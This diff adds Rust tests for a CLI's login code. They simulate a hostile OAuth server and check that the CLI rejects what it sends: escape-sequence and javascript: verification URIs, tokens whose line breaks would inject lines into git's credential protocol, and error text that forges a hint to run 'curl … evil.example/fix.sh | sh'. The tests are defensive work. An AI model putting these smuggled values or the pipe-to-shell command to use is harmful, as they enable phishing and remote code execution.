@@ -10,7 +10,7 @@ mod support;
 use std::io::Write as _;
 use std::process::Stdio;
 use support::{RefreshReply, Tessera, TokenServer, stderr, stdout};
-use tessera_testkit::{Browser, CC_BASIC, Landing, OidcProvider};
+use tessera_testkit::{Browser, CC_BASIC, HttpStub, Landing, OidcProvider, StubResponse};
 
 // ---------------------------------------------------------------------------
 // Token cache and refresh (counting server).
@@ -671,4 +671,186 @@ fn no_token_in_trace_logs_of_a_refresh() {
     let out = t.run(&["api", "/v1/me"]);
     assert!(out.status.success(), "{}", stderr(&out));
     assert!(!stderr(&out).contains("at-1"), "{}", stderr(&out));
+}
+
+// ---------------------------------------------------------------------------
+// A hostile authorization server (the CLI audit's F1, F4, F5, F9).
+
+/// An OAuth server whose device authorization endpoint answers `device`,
+/// whose token endpoint answers `token`, and whose `/v1/me` answers `me`.
+fn hostile_server(device: serde_json::Value, token: StubResponse, me: StubResponse) -> HttpStub {
+    HttpStub::builder()
+        .route(
+            "GET",
+            "/.well-known/oauth-authorization-server",
+            |_, url| {
+                StubResponse::json(
+                    200,
+                    serde_json::json!({
+                        "issuer": url, "token_endpoint": format!("{url}/token"),
+                        "device_authorization_endpoint": format!("{url}/device"),
+                    }),
+                )
+            },
+        )
+        .route("POST", "/device", move |_, _| {
+            StubResponse::json(200, device.clone())
+        })
+        .route("POST", "/token", move |_, _| token.clone())
+        .route("GET", "/v1/me", move |_, _| me.clone())
+        .start()
+}
+
+fn not_found() -> StubResponse {
+    StubResponse::text(404, r#"{"error":"not_found","message":"no"}"#)
+}
+
+/// Nothing of a hostile device answer reaches the terminal, and no browser
+/// is sent to it: a verification address that is not https (nor http to
+/// this machine), or that carries escape sequences, is a bad answer (exit
+/// 6) before a word of it is shown.
+#[test]
+fn a_device_answer_sending_the_user_elsewhere_is_refused() {
+    let hostile = [
+        (
+            "\u{1b}]8;;https://evil.example/phish\u{7}https://as.test/device\u{1b}]8;;\u{7}",
+            None,
+        ),
+        (
+            "https://as.test/device",
+            Some("javascript:alert(1)\u{1b}[31m"),
+        ),
+        (
+            "http://10.1.2.3/device",
+            Some("http://10.1.2.3/device?user_code=WXYZ"),
+        ),
+    ];
+    for (uri, complete) in hostile {
+        let server = hostile_server(
+            serde_json::json!({
+                "device_code": "dc", "user_code": "\u{1b}[2JWXYZ", "verification_uri": uri,
+                "verification_uri_complete": complete, "expires_in": 600, "interval": 1,
+            }),
+            not_found(),
+            not_found(),
+        );
+        let t = Tessera::new(&server.url);
+        let out = t.run(&["auth", "login", "--device"]);
+        let err = stderr(&out);
+        assert_eq!(out.status.code(), Some(6), "{err}");
+        assert!(err.contains("verification_uri"), "{err}");
+        assert!(
+            !err.contains('\u{1b}') && !err.contains("enter the code"),
+            "{err:?}"
+        );
+        assert_eq!(
+            t.run(&["auth", "token"]).status.code(),
+            Some(3),
+            "nothing stored"
+        );
+    }
+}
+
+/// A token with a line break would add lines to git's credential protocol
+/// and to `auth token`'s output: refused as a bad answer (exit 6), never
+/// stored, never quoted.
+#[test]
+fn a_token_with_a_line_break_is_refused_before_it_is_stored() {
+    let token = StubResponse::json(
+        200,
+        serde_json::json!({
+            "access_token": "AT-SECRET\nprotocol=http\nhost=evil.example\n\u{1b}]52;c;eA==\u{7}",
+            "token_type": "Bearer", "expires_in": 3600,
+        }),
+    );
+    let server = hostile_server(serde_json::json!({}), token, not_found());
+    let t = Tessera::new(&server.url)
+        .with_env("TESSERA_CLIENT_ID", "cid")
+        .with_env("TESSERA_CLIENT_SECRET", "cs");
+    let out = t.run(&["auth", "login", "--client-credentials"]);
+    let err = stderr(&out);
+    assert_eq!(out.status.code(), Some(6), "{err}");
+    assert!(err.contains("access_token"), "{err}");
+    assert!(!err.contains("AT-SECRET") && !err.contains("evil"), "{err}");
+    assert_eq!(
+        t.run(&["auth", "token"]).status.code(),
+        Some(3),
+        "nothing stored"
+    );
+}
+
+/// A token saved before tokens were checked (or a file edited by hand) is
+/// still never written into git's line protocol.
+#[test]
+fn git_gets_no_token_with_a_line_break() {
+    let url = support::closed_port_url();
+    let t = Tessera::new(&url);
+    t.seed_session(
+        "method = \"device\"\naccess_token = \"AT\\nhost=evil.example\"\nexpires_at = 99999999999\nobtained_at = 0\n",
+    );
+    let host = url.trim_start_matches("http://");
+    let mut child = t
+        .command(&["auth", "git-credential", "get"])
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn()
+        .unwrap();
+    write!(
+        child.stdin.take().unwrap(),
+        "protocol=http\nhost={host}\n\n"
+    )
+    .unwrap();
+    let out = child.wait_with_output().unwrap();
+    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
+    assert!(out.stdout.is_empty(), "{}", stdout(&out));
+    assert!(stderr(&out).contains("log in again"), "{}", stderr(&out));
+}
+
+/// A server's error text with line breaks of its own stays on the error's
+/// line (escaped): it cannot add a `hint:` line that reads as this
+/// program's advice. The program's own hint keeps its line.
+#[test]
+fn server_text_cannot_forge_a_hint_line() {
+    let forged =
+        "hint: your CLI is outdated, fix it with: curl -s https://evil.example/fix.sh | sh";
+    let token = StubResponse::json(
+        400,
+        serde_json::json!({"error": "invalid_client", "error_description": format!("denied\n\n{forged}")}),
+    );
+    let me = StubResponse::json(
+        401,
+        serde_json::json!({"error": "unauthorized", "message": format!("bad key\n{forged}")}),
+    );
+    let server = hostile_server(serde_json::json!({}), token, me);
+    let t = Tessera::new(&server.url)
+        .with_env("TESSERA_CLIENT_ID", "cid")
+        .with_env("TESSERA_CLIENT_SECRET", "cs");
+    let out = t.run(&["auth", "login", "--client-credentials"]);
+    assert_eq!(out.status.code(), Some(4), "{}", stderr(&out));
+    let login = stderr(&out);
+    t.ok(&[
+        "auth",
+        "login",
+        "--api-key",
+        "k-0123456789",
+        "--no-verify",
+        "--profile",
+        "k",
+    ]);
+    let out = t.run(&["auth", "test", "--profile", "k"]);
+    assert_eq!(out.status.code(), Some(4), "{}", stderr(&out));
+    for err in [login, stderr(&out)] {
+        let lines: Vec<&str> = err.lines().collect();
+        assert!(
+            lines[0].starts_with("error: ") && lines[0].contains("\\u{a}hint: your CLI"),
+            "{err}"
+        );
+        assert!(
+            lines[1..]
+                .iter()
+                .all(|l| l.starts_with("hint: ") && !l.contains("evil")),
+            "{err}"
+        );
+    }
 }
